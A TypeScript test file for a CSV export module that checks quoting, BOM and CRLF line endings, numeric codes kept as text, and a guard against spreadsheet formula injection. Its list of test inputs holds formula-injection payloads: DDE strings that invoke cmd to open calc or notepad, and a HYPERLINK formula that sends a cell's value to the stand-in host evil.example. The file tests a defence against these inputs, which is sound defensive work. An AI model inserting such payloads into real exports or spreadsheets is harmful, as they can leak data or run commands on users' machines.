// The shared CSV writer (server/contract/csv.ts): RFC 4180 quoting, BOM + CRLF, the formula guard
// and codes as text. Read back with the import's own CSV reader, so quoting is checked by a parser
// that is not the writer.
import { describe, expect, it } from 'vitest';
import {
  CSV_BOM,
  csvCell,
  csvLine,
  guardFormula,
  readBackCell,
  toCsv,
  undoCodeAsText,
} from '../../server/contract/csv.ts';
import { readCsvText } from '../helpers/csv.ts';

async function readBack(text: string): Promise<string[][]> {
  const { header, rows } = await readCsvText(text);
  return [header, ...rows];
}

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "-1+cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+2',
  '\t=1+2',
  '\r=1+2',
  '-',
  '+86 23 4370 1234',
  "=cmd|' /C notepad'!'A1'",
];

describe('formula guard', () => {
  it.each(ATTACKS)('neutralises %j with a leading apostrophe', async (attack) => {
    expect(guardFormula(attack)).toBe(`'${attack}`);
    const [, row] = await readBack(`a\r\n${csvLine([attack])}`);
    expect(row).toEqual([`'${attack}`]);
  });

  it.each(['-5', '+3', '1e3', '-1.5E-3', '.5', '12.25', '0'])(
    'leaves the plain number %j alone',
    (number) => {
      expect(guardFormula(number)).toBe(number);
      expect(csvCell(number === '0' ? 0 : number)).toBe(number === '0' ? '0' : number);
    },
  );

  it('leaves numbers and text that only contain the characters later alone', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(1e3)).toBe('1000');
    expect(csvCell('龙水镇=1')).toBe('龙水镇=1');
    expect(csvCell('a-b')).toBe('a-b');
    expect(csvCell('2020-05-01')).toBe('2020-05-01');
  });
});

describe('codes as text', () => {
  it('writes digit-only text as ="…" so Excel keeps every digit and leading zeros', async () => {
    expect(csvCell('500111001001')).toBe('"=""500111001001"""');
    expect(csvCell('007')).toBe('"=""007"""');
    const [, row] = await readBack(`a,b,c\r\n${csvLine(['500111001001', 500111, '001A'])}`);
    expect(row).toEqual(['="500111001001"', '500111', '001A']);
    expect(row?.map(undoCodeAsText)).toEqual(['500111001001', '500111', '001A']);
  });

  it('undoes only the exact form', () => {
    expect(undoCodeAsText('="12"')).toBe('12');
    expect(undoCodeAsText('="1 2"')).toBe('="1 2"');
    expect(undoCodeAsText('=12')).toBe('=12');
  });
});

describe('CSV document', () => {
  it('starts with a BOM, quotes what needs quoting, ends lines with CRLF, writes nested values as JSON', async () => {
    const csv = toCsv(
      ['镇街', '人口', '备注'],
      [
        ['龙水镇', 1234, 'a,"b"\nc'],
        [null, true, [1, 2]],
      ],
    );
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv).toBe(`${CSV_BOM}镇街,人口,备注\r\n龙水镇,1234,"a,""b""\nc"\r\n,true,"[1,2]"\r\n`);
    const rows = await readBack(csv);
    expect(rows).toEqual([
      ['镇街', '人口', '备注'],
      ['龙水镇', '1234', 'a,"b"\nc'],
      ['', 'true', '[1,2]'],
    ]);
  });
});

describe('reading our own cells back', () => {
  it('undoes codes as text and the formula guard, and leaves other text alone', () => {
    for (const value of [
      '=1+2',
      "-1+cmd|' /C calc'!A0",
      '+86 23 4370 1234',
      '@SUM(1)',
      "'quoted",
      '龙水镇',
      '-5',
    ])
      expect(readBackCell(guardFormula(value))).toBe(value);
    expect(readBackCell('="500111001001"')).toBe('500111001001');
    expect(readBackCell('="007"')).toBe('007');
  });
});
